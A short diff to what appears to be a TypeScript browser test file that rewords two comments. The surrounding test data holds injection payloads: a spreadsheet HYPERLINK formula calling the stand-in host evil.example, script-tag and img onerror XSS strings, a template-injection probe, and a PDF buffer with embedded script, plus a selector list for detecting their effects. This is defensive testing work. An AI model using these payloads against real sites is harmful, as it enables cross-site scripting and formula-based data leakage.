@@ -18,7 +18,7 @@ import {
 } from './requests';
 import { languages } from './words';
 
-/** Texts that would be markup, an address, a formula or a template to whoever takes them for one. */
+/** Texts that could be interpreted as markup, an address, a formula or a template. */
 const hostile = (mark: string): Typed => ({
   company: `=HYPERLINK("https://evil.example?${mark}","x")<script>window.owned=1</script>`,
   name: `"><img src=x onerror="window.owned=1">{{7*7}}`,
@@ -40,7 +40,7 @@ const file = {
   buffer: Buffer.from('%PDF-1.7\n<script>window.owned=1</script>'),
 };
 
-/** What would be there if one of them had been more than a text. */
+/** Traces that such a text would leave if it were interpreted. */
 async function harmIn(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     const bad = 'img[src=x], [onerror], [onload], iframe, [srcdoc], a[href^="javascript:" i], a[href*="evil.example"]';
